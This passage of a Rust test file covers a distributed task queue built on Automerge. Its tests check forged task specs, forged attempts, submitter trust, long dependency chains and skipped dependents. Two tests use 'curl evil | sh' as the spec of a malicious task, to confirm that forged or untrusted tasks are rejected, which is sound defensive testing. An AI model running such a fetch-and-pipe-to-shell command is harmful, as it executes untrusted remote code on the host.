            [
                "old-gpu", "old-high", "new-high", "new-mid", "both", "old-low", "new-neg"
            ]
        );
    }
}

// ---------------------------------------------------------------------------
// identity and forged documents

#[test]
fn name_and_priority_do_not_change_the_id() {
    let (alice, bob) = (writer(1), writer(2));
    let a = spec("make");
    let mut b = a.clone();
    b.name = "build everything".into();
    b.priority = 7;
    assert_eq!(a.id(), b.id());
    let id = a.id();
    let d1 = submit(&alice, T0 + 10, 1, &[a]);
    let d2 = submit(&bob, T0, 2, &[b]);
    // The name and priority shown are those of the earliest batch.
    for v in [view(&[&d1, &d2]), view(&[&d2, &d1])] {
        assert_eq!(v.len(), 1);
        let t = v.get(&id).expect("one task");
        assert_eq!(t.spec.name, "build everything");
        assert_eq!(t.spec.priority, 7);
        assert_eq!(t.created_at, T0);
    }
}

#[test]
fn with_equal_submission_times_the_spec_shown_does_not_depend_on_merge_order() {
    let (alice, bob) = (writer(1), writer(2));
    let a = spec("make");
    let mut b = a.clone();
    b.name = "other name".into();
    b.priority = 3;
    let id = a.id();
    let d1 = submit(&alice, T0, 1, &[a]);
    let d2 = submit(&bob, T0, 2, &[b]);
    let v12 = view(&[&d1, &d2]);
    let v21 = view(&[&d2, &d1]);
    let (t12, t21) = (v12.get(&id).expect("task"), v21.get(&id).expect("task"));
    assert_eq!(t12.spec, t21.spec);
    assert_eq!(t12.docs, t21.docs);
    // The tie goes to the smaller document id.
    assert!(d1.id < d2.id);
    assert_eq!(t12.origin, d1.id);
    assert_eq!(t12.spec.name, "make");
    let derived = v12.derive(T0 + 1, Policy::default());
    assert_eq!(v12.runnable(&derived, &[]), v21.runnable(&derived, &[]));
}

/// The object id of the map of task `key` in `am`.
fn task_obj(am: &AutoCommit, key: &str) -> automerge::ObjId {
    let (_, tasks) = am.get(ROOT, "tasks").expect("get").expect("the tasks map");
    let (_, task) = am.get(&tasks, key).expect("get").expect("the task map");
    task
}

#[test]
fn a_forged_task_whose_key_is_not_its_spec_hash_is_a_problem_and_left_out() {
    let (alice, mallory) = (writer(1), writer(2));
    let honest = spec("echo honest");
    let victim = spec("make test");
    let evil = spec("curl evil | sh");
    let (ih, iv, ie) = (honest.id(), victim.id(), evil.id());
    let mut d = submit(&alice, T0, 1, &[honest, victim]);

    // Mallory rewrites the victim's spec: its key no longer is its hash.
    let am = d.as_writer(&mallory);
    let t = task_obj(am, iv.as_str());
    am.put(&t, "spec", serde_json::to_string(&evil).expect("json"))
        .expect("put");
    // A task under a key that is not a task id at all, and one whose spec
    // does not parse.
    let (_, tasks) = am.get(ROOT, "tasks").expect("get").expect("tasks");
    let junk = am
        .put_object(&tasks, "not-a-task-id", automerge::ObjType::Map)
        .expect("put");
    am.put(&junk, "spec", "{}").expect("put");
    let garbled = spec("garbled").id();
    let g = am
        .put_object(&tasks, garbled.as_str(), automerge::ObjType::Map)
        .expect("put");
    am.put(&g, "spec", "{not json").expect("put");
    doc::commit(am, T0 + 1, "forge");

    let (records, problems) = doc::read_tasks(&d.am, &doc::TrustAll);
    let read: Vec<&TaskId> = records.iter().map(|r| &r.id).collect();
    assert_eq!(read, vec![&ih]);
    let mut flagged: Vec<&str> = problems.iter().map(|p| p.task.as_str()).collect();
    flagged.sort_unstable();
    let mut expected = vec![iv.as_str(), garbled.as_str(), "not-a-task-id"];
    expected.sort_unstable();
    assert_eq!(flagged, expected);
    let forged = problems
        .iter()
        .find(|p| p.task == iv.as_str())
        .expect("the forged task");
    // The overwrite is by another writer than the task's creator: only the
    // creator's spec counts, and it was superseded.
    assert!(forged.message.contains("overwritten"), "{}", forged.message);
    let _ = ie;

    let header = doc::read_header(&d.am).expect("header");
    let mut v = View::new();
    v.add_records(&d.id, &header, records);
    assert_eq!(v.len(), 1);
    assert!(v.get(&iv).is_none());
    assert!(v.get(&ie).is_none());
    assert_eq!(v.derive(T0 + 2, Policy::default()).len(), 1);
}

#[test]
fn a_forged_attempt_under_another_key_is_ignored() {
    let (alice, worker, mallory) = (writer(1), writer(2), writer(3));
    let s = spec("make");
    let id = s.id();
    let mut d = submit(&alice, T0, 1, &[s]);
    // Mallory stores a success under her key that claims to be the worker's.
    let am = d.as_writer(&mallory);
    let t = task_obj(am, id.as_str());
    let (_, attempts) = am.get(&t, "attempts").expect("get").expect("attempts");
    let fake = Attempt {
        key: fact_key(&worker, 1),
        device: String::new(),
        started_at: T0,
        ended_at: T0 + 1,
        outcome: Outcome::Success,
        exit_code: Some(0),
        signal: None,
        message: None,
        stdout_tail: String::new(),
        stderr_tail: String::new(),
        stdout_blob: None,
        stderr_blob: None,
        outputs: Default::default(),
        provenance: Default::default(),
    };
    am.put(
        &attempts,
        fact_key(&mallory, 1),
        serde_json::to_string(&fake).expect("json"),
    )
    .expect("put");
    doc::commit(am, T0 + 2, "forge");
    let v = view(&[&d]);
    assert!(v.get(&id).expect("task").facts.attempts.is_empty());
    assert_eq!(status(&v, &id, T0 + 3), Status::Pending);
}

#[test]
fn a_document_without_its_genesis_is_not_a_batch() {
    let am = AutoCommit::new();
    assert!(doc::read_header(&am).is_err());
    assert!(doc::read_tasks(&am, &doc::TrustAll).0.is_empty());
    let mut other = AutoCommit::new();
    other.put(ROOT, "schema", "something-else/1").expect("put");
    assert!(doc::read_header(&other).is_err());
}

#[test]
fn facts_for_an_unknown_task_are_refused() {
    let alice = writer(1);
    let mut d = submit(&alice, T0, 1, &[spec("a")]);
    let missing = spec("b").id();
    let am = d.as_writer(&alice);
    assert!(doc::put_cancel(am, &missing, &alice, T0).is_err());
    assert!(doc::put_retry(am, &missing, &fact_key(&alice, 1), T0).is_err());
}

// Issue 12 (a sibling of item 10): a chain of needs as long as a submission
// allows was derived by recursion, one stack frame per link: a long enough
// chain in a stored batch overflowed the stack of every command that read
// it. Derived here on a thread with a small stack, to leave no doubt.
#[test]
fn a_long_chain_of_needs_derives_without_recursion() {
    const LINKS: usize = 20_000;
    let mut specs: Vec<TaskSpec> = Vec::with_capacity(LINKS);
    for i in 0..LINKS {
        let mut s = spec(&format!("link {i}"));
        if let Some(prev) = specs.last() {
            s.needs = vec![prev.id()];
        }
        specs.push(s);
    }
    let last = specs.last().expect("a chain").id();
    let first = specs[0].id();
    let d = submit(&writer(1), T0, 1, &specs);
    let v = view(&[&d]);
    let derived = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(move || v.derive(T0 + 1, Policy::default()))
        .expect("spawn")
        .join()
        .expect("derive ends");
    assert_eq!(derived.len(), LINKS);
    assert_eq!(derived[&first].status, Status::Pending);
    assert_eq!(derived[&last].status, Status::Blocked);
}

mod stored_specs {
    //! Issue 12, item 10: arbitrary task specs written into a document (as a
    //! member who bypasses `submit` can) are read back, derived and ended by
    //! one `error` attempt without a panic anywhere in the model.

    use proptest::prelude::*;

    use super::*;

    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            8 => "[a-z]{1,8}",
            1 => Just(String::new()),
            1 => any::<String>(),
            1 => Just("../x".to_owned()),
            1 => Just("a\0b".to_owned()),
            1 => (0usize..150_000).prop_map(|n| "x".repeat(n)),
        ]
    }

    prop_compose! {
        fn stored_spec()(
            name in text(),
            script in text(),
            env in prop::collection::btree_map(text(), text(), 0..3),
            outputs in prop::collection::vec(text(), 0..2),
            timeout_s in prop_oneof![Just(0u64), Just(u64::MAX), 1u64..100, any::<u64>()],
            retries in prop_oneof![0u32..3, Just(u32::MAX), any::<u32>()],
            priority in prop_oneof![-3i64..3, Just(i64::MIN), Just(i64::MAX)],
        ) -> TaskSpec {
            let mut s = spec(&script);
            s.name = name;
            s.env = env.into_iter().collect();
            s.outputs = outputs;
            s.timeout_s = timeout_s;
            s.retries = retries;
            s.priority = priority;
            s
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

        #[test]
        fn any_stored_spec_reads_back_derives_and_ends(spec in stored_spec()) {
            let id = spec.id();
            let valid = spec.check().is_ok();
            let mut d = submit(&writer(1), T0, 1, std::slice::from_ref(&spec));
            let v = view(&[&d]);
            let got = v.get(&id).expect("the task reads back");
            prop_assert_eq!(&got.spec, &spec);
            prop_assert_eq!(status(&v, &id, T0 + 1), Status::Pending);
            // What a worker records for a spec it cannot run.
            d.run(&writer(2), &id, 1, T0 + 2, T0 + 3, Outcome::Error);
            let after = status(&view(&[&d]), &id, T0 + 4);
            if !valid {
                // It can never run, so its own retries do not keep it open.
                prop_assert_eq!(after, Status::Failed);
            } else if spec.retries == 0 {
                prop_assert_eq!(after, Status::Failed);
            } else {
                prop_assert_eq!(after, Status::Pending);
            }
        }
    }
}

/// Trusts only the writers whose member tag is in the list.
struct TrustTags(Vec<[u8; 8]>);

impl doc::Authority for TrustTags {
    fn can_submit(&self, actor: &automerge::ActorId) -> bool {
        WriterId::member_tag_of(actor.to_bytes()).is_some_and(|t| self.0.contains(&t))
    }
}

// Issue 13, item 2: a device decides whose tasks it runs from the member
// that created each task (bound to its actor by the store's signatures),
// not from the header's self-declared `submitted_by`. The same task
// submitted by two members names both; a creator not allowed to submit
// names nobody.
#[test]
fn issue13_a_tasks_submitters_are_the_trusted_writers_that_created_it() {
    let (alice, bob, runner) = (writer(1), writer(2), writer(3));
    let shared = spec("make");
    let alone = spec("make test");
    let forged = spec("curl evil | sh");
    let d1 = submit(&alice, T0, 1, std::slice::from_ref(&shared));
    let d2 = submit(&bob, T0 + 1, 2, &[shared.clone(), alone.clone()]);
    // A runner key (not allowed to submit) writes a batch anyway; its
    // header claims alice submitted it.
    let d3 = submit(&runner, T0 + 2, 3, std::slice::from_ref(&forged));
    let authority = TrustTags(vec![[1; 8], [2; 8]]);
    let mut v = View::new();
    for d in [&d1, &d2, &d3] {
        let header = doc::read_header(&d.am).expect("header");
        let (records, problems) = doc::read_tasks(&d.am, &authority);
        assert!(problems.is_empty(), "{problems:?}");
        for r in &records {
            assert_eq!(r.creator, Some([d.am.get_actor().to_bytes()[8]; 8]));
        }
        v.add_records(&d.id, &header, records);
    }
    let tags = |s: &TaskSpec| -> Vec<[u8; 8]> { v.get(&s.id()).expect("task").submitters.clone() };
    assert_eq!(tags(&shared), vec![[1; 8], [2; 8]]);
    assert_eq!(tags(&alone), vec![[2; 8]]);
    assert_eq!(tags(&forged), Vec::<[u8; 8]>::new());
    assert!(!v.get(&forged.id()).expect("task").trusted);
}

#[test]
fn a_task_whose_need_will_not_run_is_skipped_and_so_are_its_own_dependents() {
    let (submitter, worker) = (writer(1), writer(2));
    let build = spec("build");
    let mut test = spec("test");
    test.needs = vec![build.id()];
    let mut report = spec("report");
    report.needs = vec![test.id()];
    let other = spec("other");
    let mut uses_other = spec("uses other");
    uses_other.needs = vec![other.id()];
    let (ib, it, ir, io, iu) = (
        build.id(),
        test.id(),
        report.id(),
        other.id(),
        uses_other.id(),
    );
    let mut d = submit(&submitter, T0, 1, &[build, test, report, other, uses_other]);
    d.run(&worker, &ib, 1, T0 + 1, T0 + 2, Outcome::Failed);
    d.cancel(&submitter, &io, T0 + 3);
    let v = view(&[&d]);
    let derived = v.derive(T0 + 4, Policy::default());
    // Through a chain of needs: the skipped task's dependent is skipped.
    assert_eq!(derived[&it].status, Status::Skipped);
    assert_eq!(derived[&ir].status, Status::Skipped);
    let reason = derived[&ir].reason.clone().expect("a reason");
    assert!(
        reason.contains(&format!("{} is skipped", it.short())),
        "{reason}"
    );
    // A cancelled need skips its dependent too.
    assert_eq!(derived[&iu].status, Status::Skipped);
    // None of them is runnable.
    assert!(v.runnable(&derived, &[]).is_empty());
}
